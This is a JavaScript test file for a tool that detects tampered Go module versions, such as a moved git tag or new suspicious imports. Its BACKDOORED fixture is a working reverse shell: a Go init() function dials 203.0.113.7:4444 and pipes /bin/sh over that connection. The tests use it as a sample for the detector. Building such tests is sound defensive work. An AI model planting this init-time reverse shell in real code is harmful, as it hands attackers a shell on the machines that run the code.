import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { checkTagDrift, gitTreeFiles } from '../src/module/drift.js';
import { hashFileSet, isVendoredPackage, readModuleDir, selectModuleFiles } from '../src/module/module-files.js';
import { unzipModule } from '../src/module/unzip.js';
import { diffModuleVersions, goImports } from '../src/module/version-diff.js';
import { buildModuleZip } from './fixtures/modules/zip-writer.js';
const MOD = 'github.com/boltdb-go/bolt';
const VERSION = 'v1.3.1';
let work;
let repo;
let proxyCopy;
const CLEAN = 'package bolt\n\n// Open opens a database.\nfunc Open(path string) error { return nil }\n';
const BACKDOORED = `package bolt

import (
\t"net"
\t"os/exec"
)

func init() {
\tc, err := net.Dial("tcp", "203.0.113.7:4444")
\tif err == nil {
\t\tcmd := exec.Command("/bin/sh")
\t\tcmd.Stdin, cmd.Stdout = c, c
\t\t_ = cmd.Start()
\t}
}

// Open opens a database.
func Open(path string) error { return nil }
`;
function git(...args) {
    return execFileSync('git', ['-C', repo, '-c', 'user.name=t', '-c', 'user.email=t@example.test', '-c', 'commit.gpgsign=false', ...args], { encoding: 'utf8' });
}
async function write(rel, content) {
    await mkdir(path.dirname(path.join(repo, rel)), { recursive: true });
    await writeFile(path.join(repo, rel), content);
}
before(async () => {
    work = await mkdtemp(path.join(tmpdir(), 'gosnare-drift-'));
    repo = path.join(work, 'repo');
    await mkdir(repo);
    git('init', '-q');
    await write('go.mod', `module ${MOD}\n\ngo 1.21\n`);
    await write('bolt.go', BACKDOORED);
    await write('LICENSE', 'MIT\n');
    await write('vendor/modules.txt', '# github.com/x/y v1.0.0\n');
    await write('vendor/github.com/x/y/y.go', 'package y\n');
    await write('tools/go.mod', 'module github.com/boltdb-go/bolt/tools\n');
    await write('tools/main.go', 'package main\n');
    await symlink('/etc/passwd', path.join(repo, 'passwd-link'));
    git('add', '-A');
    git('commit', '-q', '-m', 'v1.3.1');
    git('tag', VERSION);
    // What the proxy cached when the version was first requested: the backdoored tree, zipped by Go's rules.
    const { kept } = selectModuleFiles(await gitTreeFiles(repo, VERSION));
    const zip = path.join(work, 'proxy.zip');
    await writeFile(zip, buildModuleZip(MOD, VERSION, Object.fromEntries(kept)));
    proxyCopy = path.join(work, 'proxy-copy');
    await unzipModule(zip, proxyCopy);
});
after(() => rm(work, { recursive: true, force: true }));
test('module zip rules: vendored packages, nested modules, symlinks and .git are left out', async () => {
    const all = await gitTreeFiles(repo, VERSION);
    assert.ok(!all.has('passwd-link'), 'symlinks are not regular files');
    const { kept, skipped } = selectModuleFiles(all);
    assert.deepEqual([...kept.keys()].sort(), ['LICENSE', 'bolt.go', 'go.mod', 'vendor/modules.txt']);
    assert.deepEqual(skipped.map((s) => s.file).sort(), ['tools/go.mod', 'tools/main.go', 'vendor/github.com/x/y/y.go']);
    assert.equal(isVendoredPackage('vendor/modules.txt'), false);
    assert.equal(isVendoredPackage('vendor/a/b.go'), true);
    // Go's quirk: for a nested vendor dir the offset is measured from the start of the name.
    assert.equal(isVendoredPackage('x/vendor/a.go'), true);
    assert.equal(isVendoredPackage('.git/config'), false);
});
test('file selection + hash equal golang.org/x/mod/zip.CreateFromDir on the same tree', async () => {
    // Expected h1 recorded by running zip.CreateFromDir + dirhash.HashZip (x/mod v0.20.0) on this tree.
    const tree = path.join(work, 'tree');
    const files = {
        'go.mod': 'module github.com/boltdb-go/bolt\n\ngo 1.21\n',
        'bolt.go': 'package bolt\n',
        LICENSE: 'MIT\n',
        'vendor/modules.txt': '# m\n',
        'vendor/github.com/x/y/y.go': 'package y\n',
        'tools/go.mod': 'module github.com/boltdb-go/bolt/tools\n',
        'tools/main.go': 'package main\n',
        'x/vendor/a.go': 'package v\n',
        'x/x.go': 'package x\n',
        '.git/config': 'cfg\n',
    };
    for (const [rel, content] of Object.entries(files)) {
        await mkdir(path.dirname(path.join(tree, rel)), { recursive: true });
        await writeFile(path.join(tree, rel), content);
    }
    await symlink('/etc/passwd', path.join(tree, 'passwd-link'));
    const { kept } = selectModuleFiles(await readModuleDir(tree));
    assert.deepEqual([...kept.keys()].sort(), ['LICENSE', 'bolt.go', 'go.mod', 'vendor/modules.txt', 'x/x.go']);
    assert.equal(hashFileSet(kept, MOD, VERSION), 'h1:kO0BGF4GvTLIAMcw0WwG5ZJmBwG/DRcrcI8E5KwoITU=');
});
test('no drift while the tag still points at the cached code', async () => {
    const { report, findings } = await checkTagDrift({ repoDir: repo, tag: VERSION, modulePath: MOD, version: VERSION, moduleDir: proxyCopy });
    assert.equal(report.drifted, false);
    assert.equal(report.gitH1, report.proxyH1);
    assert.deepEqual(findings, []);
});
test('a moved tag is reported as drift with the diff of the changed file', async () => {
    await write('bolt.go', CLEAN);
    await write('README.md', 'bolt\n');
    git('add', '-A');
    git('commit', '-q', '-m', 'clean');
    git('tag', '-f', VERSION);
    const { report, findings } = await checkTagDrift({ repoDir: repo, tag: VERSION, modulePath: MOD, version: VERSION, moduleDir: proxyCopy });
    assert.equal(report.drifted, true);
    assert.notEqual(report.gitH1, report.proxyH1);
    assert.deepEqual(report.diff.changed.map((c) => c.file), ['bolt.go']);
    assert.deepEqual(report.diff.added, ['README.md']);
    assert.match(report.diff.changed[0].patch, /^-\tc, err := net\.Dial\("tcp", "203\.0\.113\.7:4444"\)$/m);
    assert.equal(findings.length, 1);
    assert.equal(findings[0].ruleId, 'module-tag-drift');
    assert.equal(findings[0].severity, 'high');
    assert.equal(findings[0].file, 'bolt.go');
    assert.match(findings[0].message, /no longer matches github\.com\/boltdb-go\/bolt@v1\.3\.1/);
});
test('version diff lists changed files and new imports', async () => {
    const oldDir = path.join(work, 'old');
    const newDir = path.join(work, 'new');
    await mkdir(oldDir);
    await mkdir(newDir);
    await writeFile(path.join(oldDir, 'bolt.go'), CLEAN);
    await writeFile(path.join(newDir, 'bolt.go'), BACKDOORED);
    await writeFile(path.join(oldDir, 'gone.go'), 'package bolt\nimport "fmt"\n');
    const d = await diffModuleVersions(oldDir, newDir, { old: 'v1.3.0', new: 'v1.3.1' });
    assert.deepEqual(d.newImports, ['net', 'os/exec']);
    assert.deepEqual(d.removedImports, ['fmt']);
    assert.deepEqual(d.diff.removed, ['gone.go']);
    assert.match(d.diff.changed[0].patch, /\+\+\+ v1\.3\.1\/bolt\.go/);
});
test('goImports reads blocks, single imports, aliases and ignores comments', () => {
    const src = 'package x\n/* import "fake" */\nimport "os"\nimport b64 "encoding/base64"\nimport (\n\t_ "embed"\n\tx "net/http" // web\n)\n';
    assert.deepEqual(goImports(src).sort(), ['embed', 'encoding/base64', 'net/http', 'os']);
});
//# sourceMappingURL=module-drift.test.js.map